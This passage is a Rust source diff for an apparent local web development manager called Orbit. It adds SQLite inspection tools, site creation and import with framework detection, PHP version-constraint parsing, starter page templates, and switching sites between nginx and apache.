+        "config_file": db_config_path().to_string_lossy(),
+        "running": is_service_running("mongodb")
+    })).unwrap())
+}
 
-    let output = hidden_command(&mongosh)
-        .arg("--host").arg("127.0.0.1")
-        .arg("--port").arg("27017")
-        .arg("--quiet")
-        .arg(db)
-        .arg("--eval").arg(js_command)
-        .output()
-        .map_err(|e| format!("Failed to run mongosh: {}. Is MongoDB running?", e))?;
+// ─── SQLite Tools ────────────────────────────────────────────────
 
-    if !output.status.success() {
-        let stderr = String::from_utf8_lossy(&output.stderr);
-        return Err(format!("MongoDB error: {}", stderr.trim()));
+/// bin/sqlite/sqlite3, else a sqlite3 on PATH
+fn find_sqlite_client(bin_dir: &std::path::Path) -> Result<PathBuf, String> {
+    let bundled = bin_dir.join("sqlite").join(exe_name("sqlite3"));
+    if bundled.exists() {
+        return Ok(bundled);
     }
+    let on_path = PathBuf::from(exe_name("sqlite3"));
+    if run_command(hidden_command(&on_path).arg("--version"), "version").is_ok_and(|o| o.success()) {
+        return Ok(on_path);
+    }
+    Err("sqlite3 not found. Put it in bin/sqlite or on PATH.".to_string())
+}
 
-    Ok(String::from_utf8_lossy(&output.stdout).to_string())
+/// The database file must already exist: sqlite3 would silently create a new,
+/// empty one for a mistyped path.
+fn sqlite_db_path(db_file: &str) -> Result<PathBuf, String> {
+    if db_file.is_empty() {
+        return Err("db_file is required".to_string());
+    }
+    let path = PathBuf::from(db_file);
+    if !path.is_absolute() {
+        return Err(format!("db_file must be an absolute path (e.g. <site path>/db.sqlite3), got: {}", db_file));
+    }
+    if !path.is_file() {
+        return Err(format!("SQLite database not found: {}", db_file));
+    }
+    Ok(path)
 }
 
-fn tool_mongo_list_databases() -> Result<String, String> {
-    require_service("mongodb")?;
-    let result = run_mongosh_command(Some("admin"), "JSON.stringify(db.adminCommand('listDatabases').databases)")?;
-    Ok(result)
+/// Quote a value as an SQLite string literal
+fn sqlite_string_literal(value: &str) -> String {
+    format!("'{}'", value.replace('\'', "''"))
 }
 
-fn tool_mongo_list_collections(database: &str) -> Result<String, String> {
-    require_service("mongodb")?;
-    if database.is_empty() {
-        return Err("Database name is required".to_string());
+/// Run `sql` with `sqlite3 -json` and parse the rows (empty when nothing is returned)
+fn run_sqlite_query(db: &std::path::Path, sql: &str, read_only: bool) -> Result<Vec<Value>, String> {
+    let client = find_sqlite_client(&get_bin_dir())?;
+    let mut cmd = hidden_command(&client);
+    cmd.arg("-json").arg("-bail");
+    if read_only {
+        cmd.arg("-readonly");
     }
-    let result = run_mongosh_command(Some(database), "JSON.stringify(db.getCollectionNames())")?;
-    Ok(result)
+    let output = run_command(cmd.arg(db).arg(sql), "db")
+        .map_err(|e| format!("Failed to run sqlite3: {}", e))?;
+
+    if !output.success() {
+        return Err(format!("SQLite error: {}", output.error_detail()));
+    }
+
+    // One JSON array per statement that returned rows
+    let mut rows = Vec::new();
+    let stream = serde_json::Deserializer::from_str(&output.stdout).into_iter::<Vec<Value>>();
+    for batch in stream {
+        rows.extend(batch.map_err(|e| format!("Unexpected sqlite3 output: {}", e))?);
+    }
+    Ok(rows)
 }
 
-fn tool_mongo_execute(database: &str, command: &str) -> Result<String, String> {
-    require_service("mongodb")?;
-    if database.is_empty() || command.is_empty() {
-        return Err("Database and command are required".to_string());
+fn tool_sqlite_list_tables(db_file: &str) -> Result<String, String> {
+    let db = sqlite_db_path(db_file)?;
+    let rows = run_sqlite_query(
+        &db,
+        "SELECT name, type FROM sqlite_master WHERE type IN ('table', 'view') AND name NOT LIKE 'sqlite_%' ORDER BY name",
+        true,
+    )?;
+    Ok(serde_json::to_string_pretty(&rows).unwrap())
+}
+
+fn tool_sqlite_schema(db_file: &str, table: &str) -> Result<String, String> {
+    let db = sqlite_db_path(db_file)?;
+    if table.is_empty() {
+        return Err("Table name is required".to_string());
     }
-    run_mongosh_command(Some(database), command)
+    let name = sqlite_string_literal(table);
+
+    let definition = run_sqlite_query(&db, &format!("SELECT sql FROM sqlite_master WHERE name = {}", name), true)?;
+    let Some(sql) = definition.first().and_then(|row| row["sql"].as_str()) else {
+        return Err(format!("Table not found: {}", table));
+    };
+    let columns = run_sqlite_query(&db, &format!("SELECT * FROM pragma_table_info({})", name), true)?;
+    let indexes = run_sqlite_query(&db, &format!("SELECT * FROM pragma_index_list({})", name), true)?;
+    let foreign_keys = run_sqlite_query(&db, &format!("SELECT * FROM pragma_foreign_key_list({})", name), true)?;
+
+    Ok(serde_json::to_string_pretty(&json!({
+        "table": table,
+        "sql": sql,
+        "columns": columns,
+        "indexes": indexes,
+        "foreign_keys": foreign_keys,
+    })).unwrap())
+}
+
+fn tool_sqlite_execute(db_file: &str, query: &str) -> Result<String, String> {
+    let db = sqlite_db_path(db_file)?;
+    if query.is_empty() {
+        return Err("Query is required".to_string());
+    }
+    let rows = run_sqlite_query(&db, query, false)?;
+    if rows.is_empty() {
+        return Ok("Query executed (no rows returned)".to_string());
+    }
+    Ok(serde_json::to_string_pretty(&rows).unwrap())
 }
 
 // ─── Site Management Tools ───────────────────────────────────────
 
+/// Optional settings for `tool_create_site`.
+#[derive(Default)]
+struct CreateSiteOptions<'a> {
+    template: Option<&'a str>,
+    php_version: Option<&'a str>,
+    ssl: bool,
+    hsts: bool,
+    /// Write starter files (index.php, or index.html + style.css for static
+    /// sites) if the document root has no index
+    scaffold: bool,
+    /// Dev server port for reverse-proxy templates, overriding the template's default
+    proxy_port: Option<u16>,
+    gzip: bool,
+    brotli: bool,
+    /// Return the planned changes as JSON instead of making them
+    dry_run: bool,
+}
+
+/// Starter `index.php` for plain PHP sites: checks Orbit's services and shows
+/// how to connect to them. `{{domain}}`, `{{db_user}}` and `{{db_password}}`
+/// are filled in.
+const PHP_STARTER_TEMPLATE: &str = r##"<?php
+/**
+ * Starter page created by Orbit. It checks the local services and shows how
+ * to connect to them; replace it with your project.
+ */
+
+// MariaDB on 127.0.0.1:3306 (credentials from Orbit's database settings)
+function orbit_check_mariadb(): string {
+    try {
+        $pdo = new PDO('mysql:host=127.0.0.1;port=3306', '{{db_user}}', '{{db_password}}', [
+            PDO::ATTR_ERRMODE => PDO::ERRMODE_EXCEPTION,
+            PDO::ATTR_TIMEOUT => 2,
+        ]);
+        return 'Connected, server ' . $pdo->getAttribute(PDO::ATTR_SERVER_VERSION);
+    } catch (Throwable $e) {
+        return 'Not reachable: ' . $e->getMessage();
+    }
+}
+
+// Redis on 127.0.0.1:6379, through phpredis when loaded, else a raw PING
+function orbit_check_redis(): string {
+    if (class_exists('Redis')) {
+        try {
+            $redis = new Redis();
+            $redis->connect('127.0.0.1', 6379, 2);
+            return 'Connected (phpredis), PING: ' . var_export($redis->ping(), true);
+        } catch (Throwable $e) {
+            return 'Not reachable: ' . $e->getMessage();
+        }
+    }
+    $socket = @fsockopen('127.0.0.1', 6379, $errno, $errstr, 2);
+    if (!$socket) {
+        return "Not reachable: $errstr";
+    }
+    fwrite($socket, "PING\r\n");
+    $reply = trim((string) fgets($socket));
+    fclose($socket);
+    return "Connected, PING: $reply";
+}
+
+// Mailpit catches all outgoing mail: SMTP on 127.0.0.1:1025, inbox on :8025
+function orbit_check_mailpit(): string {
+    $socket = @fsockopen('127.0.0.1', 1025, $errno, $errstr, 2);
+    if (!$socket) {
+        return "Not reachable: $errstr";
+    }
+    $banner = trim((string) fgets($socket));
+    fclose($socket);
+    return "SMTP ready: $banner";
+}
+
+$checks = [
+    'MariaDB' => orbit_check_mariadb(),
+    'Redis' => orbit_check_redis(),
+    'Mailpit' => orbit_check_mailpit(),
+];
+?>
+<!DOCTYPE html>
+<html lang="en">
+<head>
+    <meta charset="utf-8">
+    <meta name="viewport" content="width=device-width, initial-scale=1">
+    <title>{{domain}}</title>
+    <style>
+        body { margin: 0; padding: 3rem 1rem; font-family: system-ui, -apple-system, "Segoe UI", sans-serif;
+               background: #0f172a; color: #e2e8f0; }
+        main { max-width: 44rem; margin: 0 auto; }
+        h1 { margin: 0; font-size: 1.5rem; }
+        h2 { margin-top: 2rem; font-size: 1.1rem; }
+        p, td { color: #94a3b8; }
+        table { width: 100%; border-collapse: collapse; }
+        td { padding: 0.5rem 0; border-bottom: 1px solid #1e293b; }
+        td:first-child { color: #e2e8f0; width: 8rem; }
+        pre { padding: 1rem; border-radius: 0.5rem; background: #1e293b; overflow-x: auto; }
+        code { color: #a5b4fc; }
+        a { color: #818cf8; margin-right: 1.5rem; }
+    </style>
+</head>
+<body>
+    <main>
+        <h1>{{domain}}</h1>
+        <p>PHP <?= PHP_VERSION ?> &middot; Replace this file with your project to get started.</p>
+
+        <h2>Services</h2>
+        <table>
+            <?php foreach ($checks as $service => $status): ?>
+                <tr><td><?= $service ?></td><td><?= htmlspecialchars($status) ?></td></tr>
+            <?php endforeach; ?>
+        </table>
+
+        <h2>Connecting from your code</h2>
+<pre><code>// MariaDB
+$pdo = new PDO('mysql:host=127.0.0.1;port=3306;dbname=my_app', '{{db_user}}', $password);
+
+// Redis (enable the redis extension, or use predis/predis)
+$redis = new Redis();
+$redis->connect('127.0.0.1', 6379);
+
+// Mail: point your mailer at SMTP 127.0.0.1:1025 and read it in Mailpit
+$transport = 'smtp://127.0.0.1:1025';</code></pre>
+
+        <nav>
+            <a href="http://127.0.0.1:8080/adminer/">Adminer</a>
+            <a href="http://127.0.0.1:8025/">Mailpit</a>
+        </nav>
+    </main>
+</body>
+</html>
+"##;
+
+/// Starter page and stylesheet for static sites; `{{domain}}` is filled in.
+const STATIC_STARTER_HTML: &str = r#"<!DOCTYPE html>
+<html lang="en">
+<head>
+    <meta charset="utf-8">
+    <meta name="viewport" content="width=device-width, initial-scale=1">
+    <title>{{domain}}</title>
+    <link rel="stylesheet" href="style.css">
+</head>
+<body>
+    <main>
+        <h1>{{domain}}</h1>
+        <p>This static site is served by Orbit. Edit <code>index.html</code> and <code>style.css</code> to get started.</p>
+        <nav>
+            <a href="http://127.0.0.1:8080/adminer/">Adminer</a>
+            <a href="http://127.0.0.1:8025/">Mailpit</a>
+        </nav>
+    </main>
+</body>
+</html>
+"#;
+
+const STATIC_STARTER_CSS: &str = r#"body {
+    margin: 0;
+    min-height: 100vh;
+    display: flex;
+    align-items: center;
+    justify-content: center;
+    font-family: system-ui, -apple-system, "Segoe UI", sans-serif;
+    background: #0f172a;
+    color: #e2e8f0;
+}
+
+main {
+    max-width: 32rem;
+    padding: 2.5rem;
+    border-radius: 1rem;
+    background: #1e293b;
+    text-align: center;
+}
+
+h1 {
+    margin: 0 0 0.5rem;
+    font-size: 1.5rem;
+}
+
+p {
+    color: #94a3b8;
+}
+
+code {
+    color: #a5b4fc;
+}
+
+a {
+    color: #818cf8;
+    margin: 0 0.75rem;
+}
+"#;
+
+/// Escape a value for a single-quoted PHP string literal.
+fn php_single_quoted(value: &str) -> String {
+    value.replace('\\', "\\\\").replace('\'', "\\'")
+}
+
+/// Starter files (name, content) for a site's document root; none when it
+/// already has an index
+fn site_starter_files(site: &SiteMetadata) -> Vec<(&'static str, String)> {
+    let doc_root = PathBuf::from(&site.path);
+    if ["index.php", "index.html", "index.htm"].iter().any(|f| doc_root.join(f).exists()) {
+        return Vec::new();
+    }
+
+    match site.php_version {
+        Some(_) => {
+            let credentials = db_credentials();
+            vec![("index.php", PHP_STARTER_TEMPLATE
+                .replace("{{domain}}", &site.domain)
+                .replace("{{db_user}}", &php_single_quoted(&credentials.mariadb_user))
+                .replace("{{db_password}}", &php_single_quoted(&credentials.mariadb_password)))]
+        }
+        None => {
+            let mut files = vec![("index.html", STATIC_STARTER_HTML.replace("{{domain}}", &site.domain))];
+            // Don't clobber a stylesheet the project already has
+            if !doc_root.join("style.css").exists() {
+                files.push(("style.css", STATIC_STARTER_CSS.to_string()));
+            }
+            files
+        }
+    }
+}
+
+/// Write the starter files for a plain PHP or static site into a document root
+/// without an index file. Returns the files written (empty if the site already
+/// has an index).
+fn scaffold_site_starter(site: &SiteMetadata) -> Result<Vec<PathBuf>, String> {
+    let files = site_starter_files(site);
+    if files.is_empty() {
+        return Ok(Vec::new());
+    }
+
+    let doc_root = PathBuf::from(&site.path);
+    fs::create_dir_all(&doc_root)
+        .map_err(|e| format!("Failed to create document root: {}", e))?;
+    let mut written = Vec::new();
+    for (file, content) in files {
+        let file_path = doc_root.join(file);
+        fs::write(&file_path, content)
+            .map_err(|e| format!("Failed to write {}: {}", file, e))?;
+        written.push(file_path);
+    }
+    Ok(written)
+}
+
+/// Site domains and aliases go into file names, hosts lines and nginx
+/// configs, so only alphanumerics, dots and hyphens are allowed
+fn check_domain_name(name: &str) -> Result<(), String> {
+    if name.is_empty() || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-') {
+        return Err(format!("Invalid domain name '{}': only alphanumeric characters, dots, and hyphens allowed", name));
+    }
+    Ok(())
+}
+
 fn tool_create_site(
     domain: &str,
+    aliases: &[String],
     path: &str,
-    template: Option<&str>,
-    php_version: Option<&str>,
-    ssl: bool,
+    options: CreateSiteOptions,
 ) -> Result<String, String> {
+    let CreateSiteOptions { template, php_version, ssl, hsts, scaffold, proxy_port, gzip, brotli, dry_run } = options;
     if domain.is_empty() || path.is_empty() {
         return Err("Domain and path are required".to_string());
     }
 
-    // Validate domain — only allow alphanumeric, dots, hyphens
-    if !domain.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-') {
-        return Err("Invalid domain name: only alphanumeric characters, dots, and hyphens allowed".to_string());
+    // Validate domain and aliases — only allow alphanumeric, dots, hyphens
+    for name in std::iter::once(domain).chain(aliases.iter().map(String::as_str)) {
+        check_domain_name(name)?;
     }
 
     // Validate path — reject path traversal attempts
@@ -3180,16 +7773,25 @@ fn tool_create_site(
     }
 
     let bin_dir = get_bin_dir();
+    let lock = lock_sites_store()?;
     let mut store = read_sites_store()?;
 
     // Check if domain already exists
     if store.sites.iter().any(|s| s.domain == domain) {
         return Err(format!("Site '{}' already exists", domain));
     }
+    for name in std::iter::once(domain).chain(aliases.iter().map(String::as_str)) {
+        if let Some(owner) = store.sites.iter().find(|s| s.domain == name || s.aliases.iter().any(|a| a == name)) {
+            return Err(format!("'{}' is already used by site '{}'", name, owner.domain));
+        }
+    }
 
+    let dev_port = site_dev_port(template, proxy_port)?;
+    let template = if dev_port.is_some() { Some(template.unwrap_or("reverse-proxy")) } else { template };
     let _template = template.unwrap_or("php");
     let php_ver = match _template {
         "static" => None,
+        _ if dev_port.is_some() => None,
         _ => Some(php_version.unwrap_or("8.4").to_string()),
     };
 
@@ -3197,102 +7799,751 @@ fn tool_create_site(
     let now = chrono_now();
     let site = SiteMetadata {
         domain: domain.to_string(),
+        aliases: aliases.to_vec(),
         path: path.to_string(),
         port: if ssl { 443 } else { 80 },
         php_version: php_ver.clone(),
         php_port: None,
         ssl_enabled: ssl,
+        hsts,
+        gzip,
+        brotli,
         ssl_cert_path: None,
         ssl_key_path: None,
         template: template.map(|t| t.to_string()),
         web_server: "nginx".to_string(),
-        dev_port: None,
+        dev_port,
         dev_command: None,
         created_at: now.clone(),
         updated_at: now,
     };
-    store.sites.push(site);
-    write_sites_store(&store)?;
 
     // Generate nginx config
-    let config = generate_site_nginx_config(
-        domain,
-        path,
-        php_ver.as_deref(),
-        ssl,
-        &bin_dir,
-    );
-
+    let config = generate_site_nginx_config(&site, &bin_dir);
     let sites_dir = bin_dir.join("nginx").join("conf").join("sites-enabled");
+    let conf_path = sites_dir.join(format!("{}.conf", domain));
+    let names: Vec<&str> = std::iter::once(domain).chain(aliases.iter().map(String::as_str)).collect();
+
+    if dry_run {
+        let ipv6 = hosts_ipv6_enabled();
+        let hosts_lines = hosts_entries_to_add(&fs::read_to_string(get_hosts_path()).unwrap_or_default(), &names, ipv6);
+        let starter_files: Vec<String> = if scaffold && matches!(_template, "php" | "static") {
+            site_starter_files(&site).iter()
+                .map(|(file, _)| PathBuf::from(path).join(file).display().to_string())
+                .collect()
+        } else {
+            Vec::new()
+        };
+        return Ok(serde_json::to_string_pretty(&json!({
+            "dry_run": true,
+            "domain": domain,
+            "conf_path": conf_path.display().to_string(),
+            "nginx_config": config,
+            "hosts_file": get_hosts_path().display().to_string(),
+            "hosts_lines": hosts_lines,
+            "starter_files": starter_files,
+            "site": site,
+            "nginx_reload": is_service_running("nginx")
+        })).unwrap());
+    }
+
+    // Framework and proxied sites bring their own entry point
+    let scaffolded = if scaffold && matches!(_template, "php" | "static") {
+        scaffold_site_starter(&site)?
+    } else {
+        Vec::new()
+    };
+    store.sites.push(site);
+    write_sites_store(&store)?;
+    // Hosts prompts and the reload below can outlast LOCK_STALE
+    drop(lock);
+
     fs::create_dir_all(&sites_dir)
         .map_err(|e| format!("Failed to create sites-enabled dir: {}", e))?;
-    let conf_path = sites_dir.join(format!("{}.conf", domain));
     fs::write(&conf_path, &config)
         .map_err(|e| format!("Failed to write nginx config: {}", e))?;
 
-    // Add hosts entry
-    add_hosts_entry(domain).ok(); // Don't fail if hosts write fails
+    // Add hosts entries for the domain and each alias
+    for name in &names {
+        add_hosts_entry(name).ok(); // Don't fail if hosts write fails
+    }
+
+    // Reload nginx if running
+    if is_service_running("nginx") {
+        nginx_test_and_reload(&bin_dir).ok();
+    }
+
+    let mut message = format!("Site '{}' created successfully\nDocument root: {}\nNginx config: {}",
+        domain, path, conf_path.display());
+    for file in &scaffolded {
+        message.push_str(&format!("\nStarter file: {}", file.display()));
+    }
+    Ok(message)
+}
+
+/// What `import_site` found in an existing project folder.
+#[derive(Debug, PartialEq)]
+struct DetectedProject {
+    framework: &'static str,
+    /// create_site template
+    template: &'static str,
+    /// Directory nginx should serve (e.g. Laravel's public/)
+    doc_root: PathBuf,
+    /// Dev server port for proxied projects without a template of their own
+    proxy_port: Option<u16>,
+}
+
+/// Dependencies and devDependencies named in a package.json
+fn package_json_dependencies(dir: &std::path::Path) -> Vec<String> {
+    let Some(package) = fs::read_to_string(dir.join("package.json")).ok()
+        .and_then(|content| serde_json::from_str::<Value>(&content).ok())
+    else {
+        return Vec::new();
+    };
+    ["dependencies", "devDependencies"].iter()
+        .filter_map(|key| package[key].as_object())
+        .flat_map(|deps| deps.keys().cloned())
+        .collect()
+}
+
+fn detect_project(dir: &std::path::Path) -> Result<DetectedProject, String> {
+    let public = dir.join("public");
+    let project = |framework, template, doc_root: PathBuf| DetectedProject { framework, template, doc_root, proxy_port: None };
+
+    if dir.join("artisan").is_file() && dir.join("composer.json").is_file() {
+        let doc_root = if public.is_dir() { public } else { dir.to_path_buf() };
+        return Ok(project("laravel", "laravel", doc_root));
+    }
+    if dir.join("wp-config.php").is_file() || dir.join("wp-load.php").is_file() {
+        return Ok(project("wordpress", "wordpress", dir.to_path_buf()));
+    }
+
+    let deps = package_json_dependencies(dir);
+    let has = |name: &str| deps.iter().any(|d| d == name);
+    let proxied = if has("next") {
+        Some(project("nextjs", "nextjs", dir.to_path_buf()))
+    } else if has("nuxt") {
+        Some(project("nuxt", "nuxt", dir.to_path_buf()))
+    } else if has("astro") {
+        Some(project("astro", "astro", dir.to_path_buf()))
+    } else if has("@sveltejs/kit") {
+        Some(project("sveltekit", "sveltekit", dir.to_path_buf()))
+    } else if has("vite") {
+        // Vite's default dev server port
+        Some(DetectedProject { proxy_port: Some(5173), ..project("vite", "reverse-proxy", dir.to_path_buf()) })
+    } else {
+        None
+    };
+    if let Some(detected) = proxied {
+        return Ok(detected);
+    }
+
+    if public.join("index.php").is_file() {
+        return Ok(project("php", "php", public));
+    }
+    if dir.join("index.php").is_file() || dir.join("composer.json").is_file() {
+        return Ok(project("php", "php", dir.to_path_buf()));
+    }
+    for root in [dir.to_path_buf(), public] {
+        if root.join("index.html").is_file() {
+            return Ok(project("static", "static", root));
+        }
+    }
+    Err(format!(
+        "Could not detect a project in {}: expected a Laravel app, WordPress, a Node app (package.json), index.php or index.html. Use create_site to set it up by hand.",
+        dir.display()
+    ))
+}
+
+/// A PHP or constraint version as (major, minor, patch)
+type PhpVersion = (u32, u32, u32);
+
+/// "8.1.2" as a version and how many parts it gives; a "*" or "x" part ends
+/// it, so "8.1.*" gives two. A leading "v" and "@stability" are ignored.
+fn parse_constraint_version(v: &str) -> Option<(PhpVersion, usize)> {
+    let v = v.trim_start_matches(['v', 'V']).split('@').next()?;
+    let mut parts = [0u32; 3];
+    let mut given = 0;
+    for part in v.split('.').take(3) {
+        match part.parse() {
+            Ok(n) => parts[given] = n,
+            Err(_) if matches!(part, "*" | "x" | "X") => break,
+            Err(_) => return None,
+        }
+        given += 1;
+    }
+    (given > 0).then_some(((parts[0], parts[1], parts[2]), given))
+}
+
+/// The first version past `v` at the precision given, e.g. 8.1 -> 8.2
+fn bump_version((major, minor, patch): PhpVersion, given: usize) -> PhpVersion {
+    match given {
+        1 => (major + 1, 0, 0),
+        2 => (major, minor + 1, 0),
+        _ => (major, minor, patch + 1),
+    }
+}
+
+/// Versions `[lower, upper)` one composer condition such as "^8.1", "~8.1.0",
+/// ">=7.4" or "8.2.*" allows; everything for ones it doesn't restrict or read.
+fn php_condition_bounds(condition: &str) -> (PhpVersion, PhpVersion) {
+    const ANY: (PhpVersion, PhpVersion) = ((0, 0, 0), (u32::MAX, 0, 0));
+    let rest = condition.trim_start_matches(['^', '~', '<', '>', '=', '!']);
+    let op = &condition[..condition.len() - rest.len()];
+    let Some((v, given)) = parse_constraint_version(rest) else {
+        return ANY;
+    };
+    match op {
+        "^" => (v, (v.0 + 1, 0, 0)),
+        // ~8.1.2 stays within 8.1, ~8.1 within 8
+        "~" => (v, bump_version(v, given.saturating_sub(1).max(1))),
+        ">=" => (v, ANY.1),
+        ">" => (bump_version(v, 3), ANY.1),
+        "<=" => (ANY.0, bump_version(v, 3)),
+        "<" => (ANY.0, v),
+        "" | "=" | "==" => (v, bump_version(v, given)),
+        _ => ANY,
+    }
+}
+
+/// Newest installed PHP allowed by composer.json's `require.php`: some
+/// release of its major.minor must satisfy one `||` alternative. Without a
+/// constraint, the newest installed version.
+fn pick_php_version(constraint: Option<&str>, installed: &[String]) -> Option<String> {
+    let mut versions: Vec<(PhpVersion, &String)> = installed.iter()
+        .filter_map(|v| parse_constraint_version(v).filter(|(_, given)| *given >= 2).map(|(p, _)| (p, v)))
+        .collect();
+    versions.sort();
+
+    // Each alternative as the [lower, upper) its conditions leave
+    let alternatives: Vec<(PhpVersion, PhpVersion)> = constraint.unwrap_or("")
+        .split('|')
+        .filter(|alternative| !alternative.trim().is_empty())
+        .map(|alternative| {
+            // "> = 8.1" and "8.1 - 8.3" are split over several tokens
+            let tokens: Vec<&str> = alternative.split([' ', ',']).filter(|t| !t.is_empty()).collect();
+            let mut conditions = Vec::new();
+            let mut i = 0;
+            while i < tokens.len() {
+                if tokens.get(i + 1) == Some(&"-") && i + 2 < tokens.len() {
+                    let lower = php_condition_bounds(&format!(">={}", tokens[i])).0;
+                    let upper = parse_constraint_version(tokens[i + 2])
+                        .map(|(v, given)| bump_version(v, given))
+                        .unwrap_or((u32::MAX, 0, 0));
+                    conditions.push((lower, upper));
+                    i += 3;
+                } else if tokens[i].chars().all(|c| "^~<>=!".contains(c)) && i + 1 < tokens.len() {
+                    conditions.push(php_condition_bounds(&format!("{}{}", tokens[i], tokens[i + 1])));
+                    i += 2;
+                } else {
+                    conditions.push(php_condition_bounds(tokens[i]));
+                    i += 1;
+                }
+            }
+            conditions.into_iter().fold(((0, 0, 0), (u32::MAX, 0, 0)), |(lower, upper), (l, u)| (lower.max(l), upper.min(u)))
+        })
+        .collect();
+    if alternatives.is_empty() {
+        return versions.last().map(|(_, v)| v.to_string());
+    }
+    versions.iter().rev()
+        .find(|((major, minor, _), _)| {
+            let (first, next) = ((*major, *minor, 0), (*major, minor + 1, 0));
+            alternatives.iter().any(|(lower, upper)| first.max(*lower) < next.min(*upper))
+        })
+        .map(|(_, v)| v.to_string())
+}
+
+fn tool_import_site(domain: &str, path: &str) -> Result<String, String> {
+    if domain.is_empty() || path.is_empty() {
+        return Err("Domain and path are required".to_string());
+    }
+    let dir = std::path::Path::new(path);
+    if !dir.is_absolute() || !dir.is_dir() {
+        return Err(format!("Path must be an existing absolute directory: {}", path));
+    }
+
+    let detected = detect_project(dir)?;
+    let php_version = if matches!(detected.template, "laravel" | "wordpress" | "php") {
+        let constraint = fs::read_to_string(dir.join("composer.json")).ok()
+            .and_then(|content| serde_json::from_str::<Value>(&content).ok())
+            .and_then(|composer| composer["require"]["php"].as_str().map(String::from));
+        let installed = installed_php_versions(&get_bin_dir());
+        // create_site falls back to its default when nothing suitable is installed
+        pick_php_version(constraint.as_deref(), &installed)
+    } else {
+        None
+    };
+
+    let doc_root = detected.doc_root.to_string_lossy().to_string();
+    let message = tool_create_site(domain, &[], &doc_root, CreateSiteOptions {
+        template: Some(detected.template),
+        php_version: php_version.as_deref(),
+        proxy_port: detected.proxy_port,
+        ..Default::default()
+    })?;
+
+    Ok(serde_json::to_string_pretty(&json!({
+        "framework": detected.framework,
+        "template": detected.template,
+        "doc_root": doc_root,
+        "php_version": php_version,
+        "proxy_port": detected.proxy_port.or_else(|| proxy_dev_port(Some(detected.template))),
+        "message": message
+    })).unwrap())
+}
+
+fn tool_delete_site(domain: &str, dry_run: bool) -> Result<String, String> {
+    if domain.is_empty() {
+        return Err("Domain is required".to_string());
+    }
+
+    let bin_dir = get_bin_dir();
+    let lock = lock_sites_store()?;
+    let mut store = read_sites_store()?;
+
+    let aliases = store.sites.iter().find(|s| s.domain == domain)
+        .map(|s| s.aliases.clone())
+        .ok_or_else(|| format!("Site '{}' not found", domain))?;
+    let conf_path = bin_dir.join("nginx").join("conf").join("sites-enabled").join(format!("{}.conf", domain));
+
+    if dry_run {
+        let names: Vec<&str> = std::iter::once(domain).chain(aliases.iter().map(String::as_str)).collect();
+        let hosts_lines = fs::read_to_string(get_hosts_path())
+            .map(|content| hosts_entries_to_remove(&content, &names))
+            .unwrap_or_default();
+        return Ok(serde_json::to_string_pretty(&json!({
+            "dry_run": true,
+            "domain": domain,
+            "conf_path": conf_path.display().to_string(),
+            "conf_exists": conf_path.exists(),
+            "hosts_file": get_hosts_path().display().to_string(),
+            "hosts_lines": hosts_lines,
+            "nginx_reload": is_service_running("nginx")
+        })).unwrap());
+    }
+
+    store.sites.retain(|s| s.domain != domain);
+
+    write_sites_store(&store)?;
+    drop(lock);
+
+    // Remove nginx config
+    if conf_path.exists() {
+        fs::remove_file(&conf_path).ok();
+    }
+
+    // Remove hosts entries for the domain and each alias
+    for name in std::iter::once(domain).chain(aliases.iter().map(String::as_str)) {
+        remove_hosts_entry(name).ok();
+    }
+
+    // Reload nginx if running
+    if is_service_running("nginx") {
+        nginx_test_and_reload(&bin_dir).ok();
+    }
+
+    Ok(format!("Site '{}' deleted successfully", domain))
+}
+
+fn tool_get_site_config(domain: &str) -> Result<String, String> {
+    if domain.is_empty() {
+        return Err("Domain is required".to_string());
+    }
+
+    let bin_dir = get_bin_dir();
+    let conf_path = bin_dir.join("nginx").join("conf").join("sites-enabled").join(format!("{}.conf", domain));
+
+    if !conf_path.exists() {
+        return Err(format!("No nginx config found for '{}'", domain));
+    }
+
+    fs::read_to_string(&conf_path)
+        .map_err(|e| format!("Failed to read config: {}", e))
+}
+
+fn site_config_path(bin_dir: &std::path::Path, server: &str, domain: &str) -> PathBuf {
+    match server {
+        "apache" => bin_dir.join("apache").join("conf").join("vhosts").join(format!("{}.conf", domain)),
+        _ => bin_dir.join("nginx").join("conf").join("sites-enabled").join(format!("{}.conf", domain)),
+    }
+}
+
+fn tool_switch_site_server(domain: &str, target: &str) -> Result<String, String> {
+    if domain.is_empty() {
+        return Err("Domain is required".to_string());
+    }
+    let target = target.to_lowercase();
+    if target != "nginx" && target != "apache" {
+        return Err(format!("Unknown web server '{}'. Use: nginx, apache", target));
+    }
+
+    let bin_dir = get_bin_dir();
+    let lock = lock_sites_store()?;
+    let mut store = read_sites_store()?;
+    let site = store.sites.iter().find(|s| s.domain == domain)
+        .cloned()
+        .ok_or_else(|| format!("Site '{}' not found", domain))?;
+    let current = site.web_server.to_lowercase();
+    if current == target {
+        return Ok(format!("Site '{}' is already served by {}", domain, target));
+    }
+
+    // Generate the target config from site metadata
+    let config = if target == "apache" {
+        find_apache_exe(&bin_dir)?;
+        ensure_apache_vhosts_include(&bin_dir)?;
+        generate_site_apache_config(&site, &bin_dir)
+    } else {
+        find_nginx_exe(&bin_dir)?;
+        generate_site_nginx_config(&site, &bin_dir)
+    };
+
+    let new_conf = site_config_path(&bin_dir, &target, domain);
+    if let Some(parent) = new_conf.parent() {
+        fs::create_dir_all(parent)
+            .map_err(|e| format!("Failed to create config dir: {}", e))?;
+    }
+    let previous = fs::read_to_string(&new_conf).ok();
+    fs::write(&new_conf, &config)
+        .map_err(|e| format!("Failed to write {} config: {}", target, e))?;
+
+    // Validate before touching the old server's config
+    let validation = if target == "apache" {
+        apache_config_test(&bin_dir)
+    } else {
+        nginx_config_test(&bin_dir)
+    };
+    if let Err(e) = validation {
+        match previous {
+            Some(content) => { let _ = fs::write(&new_conf, content); }
+            None => { let _ = fs::remove_file(&new_conf); }
+        }
+        return Err(format!("{} — site left on {}", e, current));
+    }
+
+    // Remove the old server's config
+    let old_conf = site_config_path(&bin_dir, &current, domain);
+    if old_conf.exists() {
+        fs::remove_file(&old_conf)
+            .map_err(|e| format!("Failed to remove old config: {}", e))?;
+    }
+
+    if let Some(entry) = store.sites.iter_mut().find(|s| s.domain == domain) {
+        entry.web_server = target.clone();
+        entry.updated_at = chrono_now();
+    }
+    write_sites_store(&store)?;
+    drop(lock);
+
+    let mut notes = Vec::new();
+
+    // Drop the vhost from the old server if it is still running
+    if is_service_running(&current) {
+        let reload = if current == "apache" { restart_apache(&bin_dir) } else { nginx_test_and_reload(&bin_dir) };
+        if let Err(e) = reload {
